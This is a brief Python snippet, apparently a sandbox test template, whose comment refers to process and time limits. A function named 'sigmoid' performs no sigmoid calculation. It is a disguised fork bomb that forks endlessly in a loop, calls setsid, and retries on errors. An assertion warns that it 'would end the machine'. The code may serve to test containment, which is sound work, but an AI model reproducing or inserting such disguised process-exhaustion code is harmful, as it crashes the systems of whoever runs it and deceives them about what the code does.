# met by: limit on processes, and on time; all end with the first of their namespace
import os

assert not os.path.exists("{{neighbour}}"), "no walls here: this would end the machine"

def sigmoid(z):
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            continue
